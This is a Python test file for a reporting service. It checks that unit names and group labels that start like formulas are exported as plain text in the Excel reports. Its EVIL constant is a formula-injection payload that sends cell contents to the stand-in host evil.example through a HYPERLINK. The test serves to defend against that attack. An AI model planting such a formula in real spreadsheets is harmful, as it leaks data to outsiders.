"""The evaluation reports as Excel files carry the units' own names: a name
that starts like a formula is written as text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from services.evaluation import category_report, county_report, reports, unit_report
from services.evaluation.domain.measures import Measures
from services.evaluation.measures import measure_fields
from services.runtime.city import packaged_city

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"许昌某研究院")'


def test_a_unit_name_that_looks_like_a_formula_is_text_in_every_report() -> None:
    row = reports.UnitRow(unit_id="u1", name=EVIL, kind=None, status="approved", county_code="411002", department="-科技局",
                          parent_unit_id=None, measures=Measures(unit_id="u1", year=2026, orders_served=3, revenue_fen=12_345))
    wb = load_workbook(io.BytesIO(unit_report.units_xlsx(2026, [row], packaged_city())))
    ws = wb["单位报表"]
    assert ws["A2"].value == EVIL and ws["A2"].data_type == "s"
    assert ws["D2"].value == "-科技局" and ws["D2"].data_type == "s"
    chart_sheet = wb["图表"]
    assert chart_sheet["A2"].value == EVIL and chart_sheet["A2"].data_type == "s"
    # the measures stay numbers
    header = [c.value for c in ws[1]]
    assert ws.cell(row=2, column=header.index("完成服务（单）") + 1).data_type == "n"

    group = reports.GroupRow(key="=1+1", label="=1+1", units=1, values=dict.fromkeys(category_report.CATEGORY_FIELDS, 0))
    ws = load_workbook(io.BytesIO(category_report.categories_xlsx(2026, [group])))["仪器类别报表"]
    assert ws["A2"].value == "=1+1" and ws["A2"].data_type == "s"
    county = reports.GroupRow(key="=2+2", label="=2+2", units=1, values={f: 0 for f in measure_fields()})
    ws = load_workbook(io.BytesIO(county_report.counties_xlsx(2026, [county])))["区县报表"]
    assert [(c.value, c.data_type) for c in ws[2][:2]] == [("=2+2", "s"), ("=2+2", "s")]
